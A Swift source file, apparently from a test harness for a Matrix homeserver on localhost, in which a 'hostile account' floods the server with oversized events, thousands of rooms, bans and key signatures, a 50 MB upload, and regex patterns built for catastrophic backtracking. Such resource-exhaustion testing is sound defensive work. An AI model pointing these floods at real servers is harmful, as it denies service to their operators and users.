import Foundation
import HeraldJSON

/// The data that a hostile account has stored: big events and state, many rooms, bans, signatures, lists and rules.
struct NodeHoard {
    let owner: NodePerson
    let port: Int
    let isSmall: Bool

    /// - Returns: the facts that the attack needs.
    func collect() throws -> [String: String] {
        let token = owner.token, user = NodeWorld.escaped(owner.user)
        let big = try owner.makeRoom(at: port), bans = try owner.makeRoom(at: port)
        let text = String(repeating: "needle hay ", count: 5_000)
        fill(isSmall ? 50 : 300) {
            NodeAttack.put(
                "rooms/\(NodeWorld.escaped(big))/send/m.room.message/b\($0)", token,
                ["msgtype": "m.text", "body": .string(text)])
        }
        fill(isSmall ? 50 : 300) {
            NodeAttack.put(
                "rooms/\(NodeWorld.escaped(big))/state/org.example.big/s\($0)", token, ["text": .string(text)])
        }
        fill(isSmall ? 200 : 300) {
            NodeAttack.put(
                "rooms/\(NodeWorld.escaped(big))/send/org.example.\(String(repeating: "a", count: 200))/e\($0)", token,
                ["text": "small"])
        }
        fill(isSmall ? 20 : 300) {
            NodeAttack.post(
                "createRoom", ["visibility": "public", "topic": .string(text), "name": .string("public \($0)")],
                token: token)
        }
        fill(isSmall ? 100 : 1_700) { _ in NodeAttack.post("createRoom", ["preset": "private_chat"], token: token) }
        fill(isSmall ? 1_000 : 5_000) {
            NodeAttack.post(
                "rooms/\(NodeWorld.escaped(bans))/ban", ["user_id": .string("@banned\($0):localhost")], token: token)
        }
        fill(500) {
            NodeAttack.put(
                "pushrules/global/content/kept\($0)", token,
                ["pattern": .string("*a*b*c*\($0)*"), "actions": ["notify"]])
        }
        sign()
        fill(1) { _ in
            RawRequest(
                method: "PUT", path: "/_matrix/client/v3/user/\(user)/account_data/m.ignored_user_list", token: token,
                body: NodeWorld.ignoredUsers(isSmall ? 5_000 : 25_000))
        }
        let devices = logIn(isSmall ? 10 : 40)
        let message: JSONValue = ["text": .string(String(repeating: "x", count: 3_000))]
        fill(isSmall ? 50 : 500) {
            NodeAttack.put(
                "sendToDevice/org.example.waiting/t\($0)", token, ["messages": .object([owner.user: ["*": message]])])
        }
        let pattern = String(repeating: "a*", count: 60) + "b"
        let patterns: JSONValue = .array((0..<(isSmall ? 10 : 20)).map { .string(pattern + "\($0)") })
        let filter = String(decoding: JSONValue.object(["not_types": patterns]).serialized(), as: UTF8.self)
        let upload = RawRequest(
            method: "POST", path: "/_matrix/media/v3/upload", token: token,
            body: [UInt8](repeating: 7, count: isSmall ? 5_000_000 : 50_000_000),
            contentType: "image/png")
        let file =
            try JSONValue(parsing: owner.ask(upload, at: port).body)["content_uri"]?.stringValue?.dropFirst(
                "mxc://".count) ?? ""
        return [
            "file": String(file), "token": token, "user": owner.user, "big": big, "bans": bans, "filter": filter,
            "devices": devices.joined(separator: ","),
        ]
    }

    /// - Returns: The tokens of so many more devices.
    private func logIn(_ count: Int) -> [String] {
        (0..<count).compactMap { _ in
            let request = NodeAttack.post(
                "login",
                [
                    "type": "m.login.password", "identifier": ["type": "m.id.user", "user": "hostile"],
                    "password": "password of hostile",
                ])
            return (try? JSONValue(parsing: owner.ask(request, at: port).body))?["access_token"]?.stringValue
        }
    }

    /// Device keys and signatures over them, a thousand in a request.
    private func sign() {
        guard
            let device = try? JSONValue(
                parsing: owner.ask(RawRequest(path: "/_matrix/client/v3/account/whoami", token: owner.token), at: port)
                    .body)["device_id"]?.stringValue
        else { return }
        let keys: JSONValue = [
            "user_id": .string(owner.user), "device_id": .string(device), "algorithms": [], "signatures": [:],
            "keys": .object(["ed25519:\(device)": "key"]),
        ]
        fill(1) { _ in NodeAttack.post("keys/upload", ["device_keys": keys], token: owner.token) }
        fill(isSmall ? 10 : 20) { number in
            let many = JSONObject(
                uniqueKeysWithValues: (0..<1_000).map { ("ed25519:k\(number)-\($0)", JSONValue.string("signature")) })
            var signed = keys.objectValue ?? [:]
            signed["signatures"] = .object([owner.user: .object(many)])
            return NodeAttack.post(
                "keys/signatures/upload", .object([owner.user: .object([device: .object(signed)])]), token: owner.token)
        }
    }

    /// Sends this number of requests, some at a time. Refused requests are not repeated.
    private func fill(_ count: Int, _ request: @escaping @Sendable (Int) -> RawRequest) {
        let crew = min(16, count), port = port, done = DispatchGroup()
        for index in 0..<crew {
            done.enter()
            Thread {
                let http = RawHTTP(from: "127.0.0.1", to: port, seconds: 10)
                for number in stride(from: index, to: count, by: crew) { _ = try? http.ask(request(number)) }
                done.leave()
            }.start()
        }
        done.wait()
    }
}
